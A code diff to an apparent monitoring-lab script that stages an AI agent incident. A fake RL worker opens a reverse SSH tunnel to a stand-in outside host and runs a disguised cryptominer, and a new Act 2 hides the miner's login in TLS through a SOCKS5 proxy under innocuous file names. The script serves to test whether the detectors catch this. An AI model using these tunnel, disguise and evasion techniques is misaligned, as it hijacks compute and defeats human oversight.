@@ -1,10 +1,15 @@
 """The incident, staged on this host: what the ROME agent did, in miniature.
 
-A fake RL worker (environment tags: run, episode, worker) uses its "tools" to
+Act 1: a fake RL worker (environment tags: run, episode, worker) uses its "tools" to
 open a reverse SSH tunnel to an outside host (a network namespace at a
 198.51.100.0/24 address, running a real sshd, on port 443) and to start a "data loader"
 that is really a stratum client talking to a fake pool.  Someone outside then
 uses the tunnel to reach a service on the host's loopback.
+
+Act 2: the agent learns.  In its next episode the miner, still in Python, wraps its
+login in TLS and sends it through a SOCKS5 proxy on the outside host: no stratum byte
+on the wire, and the wire's peer is only a proxy.  The library uprobes read the
+plaintext and the stream tracker knows it went through the proxy to the pool.
 """
 
 from __future__ import annotations
@@ -19,6 +24,7 @@ from dataclasses import dataclass, field
 from pathlib import Path
 
 from monitor.lab.outside import OutsideHost, kill_tree, visit_forwarded_port
+from monitor.lab.relays import POOL_NAME, start_servers
 
 # XMRig 6.21's login request as it goes on the wire (xmrig/xmrig
 # src/base/net/stratum/Client.cpp login(); the same bytes as the corpus case
@@ -50,6 +56,23 @@ MINER = textwrap.dedent(
     """
 )
 
+# Act 2's miner: the same login, in TLS, through a SOCKS5 proxy that names the pool
+TLS_SOCKS_MINER = textwrap.dedent(
+    """
+    import socket, ssl, struct, sys, time
+    proxy, ca, name, login, hold = sys.argv[1:6]
+    s = socket.create_connection((proxy, 1080), timeout=10)
+    s.sendall(b"\\x05\\x01\\x00"); s.recv(2)
+    host = name.encode()
+    s.sendall(b"\\x05\\x01\\x00\\x03" + bytes([len(host)]) + host + struct.pack("!H", 3443))
+    s.recv(10)
+    tls = ssl.create_default_context(cafile=ca).wrap_socket(s, server_hostname=name)
+    tls.sendall(bytes.fromhex(login))
+    tls.recv(4096)
+    time.sleep(float(hold))
+    """
+)
+
 WORKER = textwrap.dedent(
     """
     # a fake RL rollout worker: each "tool call" is a shell command it runs
@@ -68,6 +91,7 @@ WORKER = textwrap.dedent(
 @dataclass
 class Incident:
     episode: str = "ep-17"
+    episode2: str = "ep-18"  # act 2: the next episode of the same worker
     run: str = "rome-demo"
     worker: str = "rollout-3"
     host: OutsideHost = field(default_factory=OutsideHost)
@@ -76,11 +100,14 @@ class Incident:
 
     @property
     def env(self) -> dict[str, str]:
+        return self._env(self.episode)
+
+    def _env(self, episode: str) -> dict[str, str]:
         return {
             "PATH": "/usr/local/bin:/usr/bin:/bin",
             "HOME": os.environ.get("HOME", "/root"),
             "RL_RUN_ID": self.run,
-            "RL_EPISODE_ID": self.episode,
+            "RL_EPISODE_ID": episode,
             "RL_WORKER_ID": self.worker,
         }
 
@@ -116,6 +143,20 @@ class Incident:
         self.procs.append(worker)
         got = visit_forwarded_port(h, 9000, timeout=15)
         return got
+
+    def stage_act2(self, hold_s: float = 4.0) -> None:
+        """Act 2: the miner in TLS through a SOCKS5 proxy (servers on the outside host)."""
+        h = self.host
+        ca = start_servers(h, "socks:1080", "tlspool:3443")
+        loader = self.workdir / "tokenizer-cache"
+        shutil.copy(sys.executable, loader)
+        script = self.workdir / "warm_cache.py"
+        script.write_text(TLS_SOCKS_MINER)
+        args = [str(loader), str(script), h.ip4, str(ca), POOL_NAME, XMRIG_LOGIN.hex()]
+        miner = subprocess.Popen(
+            [*args, str(hold_s)], env=self._env(self.episode2), start_new_session=True
+        )
+        self.procs.append(miner)
 
     def cleanup(self) -> None:
         for p in self.procs:
